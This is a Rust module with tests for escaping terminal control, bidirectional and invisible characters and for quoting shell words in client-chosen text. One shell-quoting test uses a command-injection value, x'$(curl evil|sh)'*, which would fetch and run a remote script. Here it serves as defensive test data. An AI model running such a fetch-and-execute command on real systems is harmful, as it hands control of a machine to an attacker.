//! Escapes of characters that control a terminal, reorder its text or end its lines, in text that clients choose.

use std::borrow::Cow;
use std::fmt::{self, Write};

/// True for control characters, bidirectional controls, line separators, and characters without a visible form.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{fffe}' | '\u{ffff}'
                | '\u{e0000}'..='\u{e007f}'
        )
}

/// Text on one line, with every hidden character escaped as in Rust: `\n`, `\u{202e}`.
pub struct OneLine<'t>(pub &'t str);

impl fmt::Display for OneLine<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.0.chars().try_for_each(|c| {
            if is_hidden(c) {
                write!(f, "{}", c.escape_default())
            } else {
                f.write_char(c)
            }
        })
    }
}

/// Quotes a word of a command where a shell would read more than its letters.
pub fn shell(word: &str) -> Cow<'_, str> {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-+=:,./@%".contains(&byte);
    match !word.is_empty() && word.bytes().all(is_plain) {
        true => Cow::Borrowed(word),
        false => Cow::Owned(format!("'{}'", word.replace('\'', r"'\''"))),
    }
}

/// Escapes every hidden character but the ends of lines, as [`OneLine`] does.
pub fn lines(text: &str) -> Cow<'_, str> {
    replaced(text, |c, out| {
        out.extend(c.escape_default());
    })
}

/// Escapes hidden characters in a JSON document that serde_json wrote: `\u202e`. It parses to the same value.
pub fn json(document: &str) -> Cow<'_, str> {
    replaced(document, |c, out| {
        for unit in c.encode_utf16(&mut [0; 2]) {
            let _ = write!(out, "\\u{unit:04x}");
        }
    })
}

/// Replaces hidden characters; the ends of lines stay.
fn replaced(text: &str, escape: impl Fn(char, &mut String)) -> Cow<'_, str> {
    let is_replaced = |c| is_hidden(c) && c != '\n';
    if !text.contains(is_replaced) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_replaced(c) {
            escape(c, &mut out);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::Value;

    use super::*;

    #[test]
    fn words_are_quoted_for_the_shell() {
        for (word, text) in [
            ("ls", "ls"),
            ("team/app:v1", "team/app:v1"),
            ("team/*", "'team/*'"),
            ("", "''"),
            ("it's", r"'it'\''s'"),
            ("x'$(curl evil|sh)'*", r"'x'\''$(curl evil|sh)'\''*'"),
        ] {
            assert_eq!(shell(word), text);
        }
    }

    #[test]
    fn hidden_characters_are_named() {
        for (text, line, json) in [
            ("plain é 漢 🙂", "plain é 漢 🙂", "plain é 漢 🙂"),
            ("a\u{202e}b", "a\\u{202e}b", "a\\u202eb"),
            ("\u{2028}\u{2029}", "\\u{2028}\\u{2029}", "\\u2028\\u2029"),
            ("\u{9b}1m\u{7f}", "\\u{9b}1m\\u{7f}", "\\u009b1m\\u007f"),
            ("\u{e0041}", "\\u{e0041}", "\\udb40\\udc41"),
        ] {
            assert_eq!(OneLine(text).to_string(), line);
            assert_eq!(lines(text), line);
            assert_eq!(super::json(text), json);
        }
        assert_eq!(OneLine("a\nb\u{1b}").to_string(), "a\\nb\\u{1b}");
        assert_eq!(lines("a\nb\tc"), "a\nb\\tc");
    }

    proptest! {
        #[test]
        fn escaped_json_has_the_same_value(key in any::<String>(), value in any::<String>()) {
            let object = serde_json::json!({ key: value });
            for document in [object.to_string(), format!("{object:#}")] {
                let escaped = json(&document);
                prop_assert!(!escaped.contains(|c| is_hidden(c) && c != '\n'));
                prop_assert_eq!(&serde_json::from_str::<Value>(&escaped).unwrap(), &object);
            }
        }

        #[test]
        fn one_line_is_one(text in any::<String>()) {
            prop_assert!(!OneLine(&text).to_string().contains(is_hidden));
        }
    }
}
